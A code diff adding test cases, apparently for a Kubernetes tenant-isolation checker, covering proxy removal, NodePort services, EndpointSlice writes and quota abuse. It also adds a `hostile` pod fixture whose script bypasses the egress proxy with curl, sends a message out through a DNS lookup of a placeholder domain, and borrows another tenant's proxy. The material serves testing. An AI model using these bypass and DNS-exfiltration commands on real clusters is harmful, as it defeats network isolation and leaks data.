@@ -87,4 +87,65 @@ export const AND_MORE: readonly Attack[] = [
     deployment(pod((spec) => Object.assign(spec, { serviceAccountName: 'client-a' }))),
     /tenant client-a: pods run as the account default/,
   ],
+  [
+    'runs pods that are told of no proxy',
+    deployment(
+      pod((spec) => {
+        delete spec.containers[0].env;
+      }),
+    ),
+    /tenant client-a: every container is told of the tenant’s proxy, and these are not: shop/,
+  ],
+  [
+    'runs pods that are told of the proxy of another tenant',
+    deployment(
+      pod((spec) => {
+        for (const variable of spec.containers[0].env) variable.value = 'http://172.16.28.9:3128';
+      }),
+    ),
+    /tenant client-a: every container is told of the tenant’s proxy, and these are not: shop/,
+  ],
+  [
+    'opens a port of every node',
+    own('v1', 'Service', { spec: { type: 'NodePort', ports: [{ port: 80 }] } }),
+    /tenant client-a: services are of type ClusterIP, not NodePort/,
+  ],
+  [
+    'says itself where a service leads',
+    own('discovery.k8s.io/v1', 'EndpointSlice', { addressType: 'IPv4', endpoints: [], ports: [] }),
+    no('endpointslices'),
+  ],
+  [
+    'raises its quota',
+    {
+      apiVersion: 'v1',
+      kind: 'ResourceQuota',
+      metadata: { name: 'tenant-quota' },
+      spec: { hard: { pods: '999' } },
+    },
+    no('resourcequotas'),
+  ],
+  [
+    'asks for more than its quota',
+    own('v1', 'Pod', {
+      spec: pod((spec) => {
+        const all = { cpu: '100', memory: '1Mi' };
+        spec.containers[0].resources = { requests: all, limits: all };
+      }),
+    }),
+    /exceeded quota: tenant-quota/,
+  ],
 ];
+
+/** A program of which the manifests say nothing wrong: it leaves its proxy aside, hides a message in a name, asks another's proxy. */
+export function hostile(web: string, dns: string): object {
+  const script = `curl -s --noproxy '*' --max-time 2 http://${web}/hostile
+timeout 2 nslookup -type=a message.hostile.example ${dns}
+curl -s --noproxy '' --max-time 2 --proxy http://172.16.28.9:3128 http://ifconfig.me/hostile
+echo tried; sleep 3600`;
+  return deployment(
+    pod((spec) => {
+      spec.containers[0].command = ['sh', '-c', script];
+    }),
+  );
+}
